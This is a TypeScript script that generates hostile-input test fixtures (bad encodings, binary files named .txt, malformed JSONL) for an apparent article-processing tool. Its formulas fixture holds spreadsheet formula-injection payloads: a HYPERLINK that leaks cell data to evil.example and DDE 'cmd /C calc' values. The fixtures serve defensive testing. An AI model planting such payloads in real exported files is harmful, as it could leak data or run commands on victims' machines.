// Writes the small hostile-input fixtures in tests/fixtures/hostile/ (committed; rerun after a
// change: npm run fixtures:hostile). Large inputs (200 MB, a million lines) are made inside the
// tests, in a temporary directory.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { scriptArgs } from './script-args.js';

const ROOT = join(import.meta.dirname, '..', 'tests', 'fixtures', 'hostile');
const ARTICLES = join(ROOT, 'articles');

scriptArgs('npm run fixtures:hostile', 'Rewrites the small hostile-input fixtures in tests/fixtures/hostile/ (committed).', {});

const PROSE =
  'The city council approved the new budget on Tuesday after a long debate about school funding.\n' +
  'Officials said the plan would add teachers and repair roads before the winter season begins.\n';

// The characters windows-1252 places in 0x80-0x9F; everything else used here is Latin-1.
const CP1252_EXTRAS: Record<string, number> = { '€': 0x80, '‚': 0x82, '„': 0x84, '…': 0x85, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97 };

function windows1252(text: string): Buffer {
  return Buffer.from([...text].map((ch) => CP1252_EXTRAS[ch] ?? (ch.charCodeAt(0) <= 0xff ? ch.charCodeAt(0) : 0x3f)));
}

// A 1x1 transparent PNG.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');

const TEXT_FIXTURES: Record<string, Buffer> = {
  // Its own body: the other fixtures share PROSE, and a line found in several articles of a run reads as site chrome.
  'good.txt': Buffer.from('Council passes the budget\n\nThe city council approved next year\'s spending plan on Tuesday evening after four hours of debate.\nMembers said the plan would hire more teachers and repair the bridges on the east side of town.\n'),
  'empty.txt': Buffer.alloc(0),
  'whitespace-only.txt': Buffer.from('   \n\t\n \r\n\u00a0\n'),
  'boilerplate-only.txt': Buffer.from('By Jane Doe\nPublished: 2023-04-29\nAdvertisement\n'),
  'photo.txt': PNG,
  'archive.txt': gzipSync(Buffer.from(PROSE)),
  'nul-bytes.txt': Buffer.concat([Buffer.from('Some text before '), Buffer.alloc(3), Buffer.from(' and after the NUL bytes.\n')]),
  'utf16le-bom.txt': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Zoë’s café opened in Kraków.\n${PROSE}`, 'utf16le')]),
  'utf16be-bom.txt': Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(`Zoë’s café opened in Kraków.\n${PROSE}`, 'utf16le').swap16()]),
  'utf16le-no-bom.txt': Buffer.from(`Zoë’s café opened in Kraków.\n${PROSE}`, 'utf16le'),
  'windows-1252.txt': windows1252(`Le café « spécial » coûte 5 € — c’est “cher”, dit-on à Besançon.\n${PROSE}`),
  'latin1.txt': Buffer.from(`Señor Muñoz visitó Zürich y Århus; ¡qué frío!\n${PROSE}`, 'latin1'),
  'mixed-line-ends.txt': Buffer.from('Line one ends with CRLF.\r\nLine two ends with CR.\rLine three ends with LF.\nLine four has none.'),
  'invalid-utf8.txt': Buffer.concat([Buffer.from('Grüße aus Köln, '), Buffer.from([0xc3, 0x28]), Buffer.from(' und München '), Buffer.from([0xff]), Buffer.from('.\n' + PROSE)]),
  'unicode.txt': Buffer.from(
    [
      'Family emoji 👩‍👩‍👧‍👦 and flags 🇺🇦 travel with a thumbs-up 👍🏽 in the report today.',
      'Arabic: مرحبا بالعالم and Hebrew: שלום עולם appear in this right-to-left sentence too.',
      'Combining marks: Cafe\u0301 and nai\u0308ve are written with separate accents here.',
      'Zero width: co\u200Bop\u00ADer\u2060ate and Persian می\u200Cخواهم keep their joiners intact.',
    ].join('\n') + '\n',
  ),
  // Not a .txt file: the directory walk ignores it.
  'notes.md': Buffer.from('# Not an article\n'),
};

const jsonl = (records: unknown[]): string => records.map((r) => (typeof r === 'string' ? r : JSON.stringify(r))).join('\n') + '\n';

const RECORDS_JSONL = jsonl([
  { id: 'a1', title: 'First', text: PROSE },
  '{"id": "broken", "text": "no closing brace"',
  { id: 'no-text', title: 'Missing text' },
  { id: { nested: true }, text: PROSE },
  { id: 'a1', text: 'A duplicate of the first id.' },
  '',
  { id: 7, text: PROSE },
  '[1, 2, 3]',
  { id: 'a2', title: '\tTitle with\ttabs\r\nand a line break\u0007', text: PROSE },
]);

// Everything a spreadsheet might execute, plus characters that must survive the round trip.
const FORMULAS_JSONL = jsonl([
  {
    id: 'hostile',
    title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    author: '+cmd|\' /C calc\'!A0',
    source: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    url: '-2+3+cmd|\' /C calc\'!A0',
    date: '2023-04-29',
    text: [
      '=HYPERLINK("http://evil.example","Click") Report lists =CMD results across every district office this week.',
      '',
      '+Plus signs start this sentence about the council budget vote in Zürich and Kraków today.',
      '',
      '-Minus signs start this sentence about Москва and Київ officials who spoke on Monday.',
      '',
      '@Mentions start this sentence about naïve café owners 🎉 who celebrated the decision.',
      '',
      '\tA tab starts this sentence about the new budget, which the mayor called “historic”.',
      '',
      '\rA carriage return starts this sentence about the budget and the roads again.',
    ].join('\n'),
  },
  { id: 'plain', title: 'Résumé of the Привет budget 👍', author: 'Zoë Ångström', text: PROSE },
]);

rmSync(ROOT, { recursive: true, force: true });
mkdirSync(ARTICLES, { recursive: true });
for (const [name, bytes] of Object.entries(TEXT_FIXTURES)) writeFileSync(join(ARTICLES, name), bytes);
writeFileSync(join(ROOT, 'records.jsonl'), RECORDS_JSONL);
writeFileSync(join(ROOT, 'formulas.jsonl'), FORMULAS_JSONL);
console.log(`wrote ${Object.keys(TEXT_FIXTURES).length} files to ${ARTICLES} and 2 JSONL files to ${ROOT}`);
